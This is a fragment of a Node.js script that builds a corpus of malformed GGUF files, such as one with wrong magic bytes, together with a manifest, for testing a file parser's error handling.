add('gguf-bad-magic.gguf', 'gguf', 'the magic is GGML', error('unsupported', 'the file does not start with the magic "GGUF"'), gguf({ magic: 'GGML' }));

// ---------------------------------------------------------------- write
rmSync(OUT, { recursive: true, force: true });
mkdirSync(OUT, { recursive: true });
let total = 0;
for (const [name, bytes] of files) {
  writeFileSync(join(OUT, name), bytes);
  total += bytes.length;
}
const manifest = {
  generatedBy: 'scripts/make-hostile-corpus.mjs',
  note: 'files are relative to e2e/hostile/. Runtime-generated cases (100,000 tensors, 5 MB card) live in e2e/hostile.spec.ts and test/fuzz.',
  cases,
};
writeFileSync(join(OUT, 'manifest.json'), `${JSON.stringify(manifest, null, 1)}\n`);
console.log(`${cases.length} cases, ${files.size} files, ${total} bytes in ${OUT}`);
